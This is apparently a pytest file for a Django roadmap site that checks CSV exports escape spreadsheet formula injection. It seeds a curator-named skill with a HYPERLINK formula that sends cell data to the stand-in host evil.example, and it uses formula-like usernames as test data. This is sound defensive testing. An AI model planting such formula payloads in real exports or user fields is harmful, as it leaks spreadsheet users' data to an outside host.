"""Every CSV the site serves is safe to open in a spreadsheet: a cell that
starts with =, +, -, @, a tab or a carriage return gets a leading apostrophe
(OWASP's rule), headers included. Usernames such as `+A1` are accepted at
sign-up and a curator may name a skill `=HYPERLINK(...)`; both are downloaded
here as their users would, and read back with the csv module."""

import csv
import io
import re
from io import StringIO
from pathlib import Path

import pytest
import yaml
from django.conf import settings
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from tests.accounts.helpers import (
    INVITATION_PAGE,
    is_signed_in,
    link_in_last_email,
    sign_in,
)
from tests.content_files import write_content
from tests.factories import PASSWORD, UserFactory

SEED = Path(settings.ROADMAP_FIXTURES_DIR) / "backend-engineer.yaml"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
RISKY = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def risky_content(db, tmp_path):
    """The seed roadmap, its first skill named like a formula by a curator."""
    data = yaml.safe_load(SEED.read_text())
    data["skills"][0]["name"] = FORMULA
    data["roles"][0]["stages"][0]["steps"][0]["title"] = "@SUM(1+1) first step"
    path = write_content(tmp_path / "risky.yaml", data)
    call_command("load_roadmaps", str(path), stdout=StringIO())
    return data


def signed_up(username: str) -> Client:
    """A learner who signs up through the form and confirms their address."""
    browser = Client()
    address = f"learner{abs(hash(username))}@example.com"
    response = browser.post(
        reverse("account_signup"),
        {
            "email": address,
            "username": username,
            "password1": PASSWORD,
            "password2": PASSWORD,
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    browser.post(link_in_last_email("/accounts/confirm-email/", to=address))
    assert is_signed_in(browser)
    return browser


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(RISKY), (cell, row)


@pytest.mark.django_db
@pytest.mark.parametrize("username", ["+A1", "-1+1", "@A1"])
def test_the_learners_csv_and_the_mentors_matrix_hold_no_formula(
    risky_content, username, empty_cache
):
    learner = signed_up(username)
    data = risky_content
    role = data["roles"][0]["slug"]
    step = data["roles"][0]["stages"][0]["steps"][0]["slug"]
    learner.post(reverse("progress_follow", args=[role]))
    learner.post(
        reverse("progress_set_status", args=["step", step]), {"status": "done"}
    )
    learner.post(
        reverse("progress_assess", args=[data["skills"][0]["slug"]]), {"level": "2"}
    )

    mine = rows_of(learner.get(reverse("progress_export_csv")))
    assert_no_formula(mine)
    assert ["step", step, "'@SUM(1+1) first step"] in [row[:3] for row in mine]

    # The learner invites a mentor, who accepts and downloads the matrix.
    UserFactory(username="maya", email="maya@example.com")
    learner.post(
        reverse("mentoring_invite"),
        {"email": "maya@example.com", "message": "", "next": reverse("mentoring")},
    )
    mentor = Client()
    mentor.get(link_in_last_email("/mentoring/invitations/", to="maya@example.com"))
    sign_in(mentor, "maya")
    page = mentor.get(INVITATION_PAGE).content.decode()
    invitation = re.search(r'name="invitation" value="(\d+)"', page).group(1)
    accepted = mentor.post(
        reverse("mentoring_invitation_accept"), {"invitation": invitation}
    )
    assert accepted.status_code == 302

    matrix = rows_of(mentor.get(reverse("mentoring_skills_csv")))
    assert_no_formula(matrix)
    header, row = matrix[0], matrix[1]
    assert f"'{FORMULA}: self-rating" in header
    assert row[1] == "'" + username
